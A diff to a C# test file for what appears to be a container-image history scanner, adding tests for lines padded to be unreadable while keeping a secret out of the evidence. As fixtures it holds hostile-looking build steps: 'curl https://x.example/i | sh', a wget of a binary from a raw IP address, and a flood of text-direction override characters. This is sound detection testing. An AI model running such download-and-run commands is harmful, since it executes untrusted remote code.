@@ -45,6 +45,23 @@ public sealed class HistoryRuleTests
     [InlineData("/bin/sh -c #(nop) ADD https://x.example/a in /a ")]
     public void Look_RemoteAdd_IsLow(string step) => Assert.Equal(("history-remote-add", Severity.Low), (Assert.Single(Look(step)).Id, Assert.Single(Look(step)).Severity));
 
+    [Theory]
+    [InlineData(60_000, 'a')]
+    [InlineData(60_000, '/')]
+    [InlineData(17_000, '-')]
+    public void Look_LineMadeToBeUnreadable_IsAFindingWithoutTheSecret(int length, char character)
+    {
+        var finding = Assert.Single(Look("|1 TOKEN=hunter2" + new string(character, length) + " /bin/sh -c true"));
+
+        Assert.Equal(("history-unreadable", Severity.Medium, "cve.misconfiguration", "history"), (finding.Id, finding.Severity, finding.Check, finding.Location));
+        Assert.StartsWith("line 1: it has a word of ", finding.Evidence, StringComparison.Ordinal);
+        Assert.DoesNotContain("hunter2", finding.Evidence, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Look_LongLineOfOrdinaryWords_IsQuiet()
+        => Assert.Empty(Look("RUN /bin/sh -c " + string.Concat(Enumerable.Repeat("apt-get install -y package && ", 2000))));
+
     [Fact]
     public void Look_RawAddress_IsLow()
         => Assert.Equal("history-raw-address", Assert.Single(Look("RUN /bin/sh -c wget http://203.0.113.7/bins/x86 # buildkit")).Id);
@@ -75,10 +92,11 @@ public sealed class HistoryRuleTests
     [Fact]
     public void Look_Hostile_IsBounded()
     {
-        var finding = Assert.Single(Look("/bin/sh -c " + new string('\u202e', 5000) + new string('|', 50_000) + " curl https://x.example/i | sh\n" + new string('a', 1_000_000)));
+        var findings = Look("/bin/sh -c " + new string('\u202e', 5000) + new string('|', 50_000) + " curl https://x.example/i | sh\n" + new string('a', 1_000_000));
 
-        Assert.True(finding.Evidence.Length <= 2000);
-        Assert.DoesNotContain('\u202e', finding.Evidence);
+        Assert.Equal(["history-unreadable", "history-download-and-run"], findings.Select(finding => finding.Id));
+        Assert.All(findings, finding => Assert.True(finding.Evidence.Length <= 2000));
+        Assert.All(findings, finding => Assert.DoesNotContain('\u202e', finding.Evidence));
     }
 
     private static List<FindingDraft> Look(params string[] steps)
